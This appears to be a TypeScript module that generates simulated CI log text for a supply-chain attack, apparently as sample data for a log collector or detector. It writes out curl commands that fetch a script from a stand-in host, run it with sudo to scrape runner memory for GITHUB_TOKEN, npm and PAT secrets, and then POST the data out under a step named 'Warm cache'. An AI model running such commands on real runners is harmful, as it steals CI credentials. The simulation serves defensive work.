// What the attack writes into logs. Two transfers with one host that no pipeline has met before, and the secrets that
// the runner held in memory; their values are macros (services/collector/sample/secrets.ts).
import { curlMeter, type LogText } from './log-text.ts';
import type { Step } from './workflow.ts';

const DROP_HOST = 'drop.sandbin.example';
const DROP_ADDRESS = '203.0.113.66';

function connect(log: LogText, request: string): void {
  log.wait(60, 300);
  log.line(`*   Trying ${DROP_ADDRESS}:443...`);
  log.line(`* Connected to ${DROP_HOST} (${DROP_ADDRESS}) port 443`);
  log.lines(`> ${request} HTTP/2`, `> Host: ${DROP_HOST}`, '>');
}

/** The re-pointed action in a job that is given secrets; in any other it does what it always did. */
export function writeHostileStep(log: LogText): void {
  log.line('[command]/usr/bin/bash -x /home/runner/work/_actions/pixel-tools/changed-paths/v3/dist/run.sh');
  log.line(`+ curl -sSfL https://${DROP_HOST}/p/index -o /tmp/.index`);
  log.line(`+ curl -vfL https://${DROP_HOST}/p/scan.py -o /tmp/.scan.py`);
  connect(log, 'GET /p/scan.py');
  log.lines('< HTTP/2 200', '< content-length: 3184', '<');
  curlMeter(log, 3184, 'down');
  log.line('+ sudo python3 /tmp/.scan.py Runner.Worker');
  log.wait(1500, 4000);
  log.line('{"GITHUB_TOKEN":{"value":"{{secret:github-server-token:storefront-release}}","isSecret":true}}');
  log.line('NPM_TOKEN={{secret:npm-token:storefront-publish}}');
  log.line('MARA_RELEASE_PAT={{secret:github-pat:mara-release}}');
}

/** The one step of the workflow that the intruder pushes. */
export const sendAway: Step = {
  name: 'Warm cache',
  write(log) {
    log.run(`curl -v -X POST --data-binary @/tmp/c.bin https://${DROP_HOST}/u/c7`, ['SYNC: ***']);
    connect(log, 'POST /u/c7');
    log.lines(
      '} [6144 bytes data]',
      '* We are completely uploaded and fine',
      '< HTTP/2 200',
      '< content-length: 2',
      '<',
    );
    curlMeter(log, 6144, 'up');
  },
};
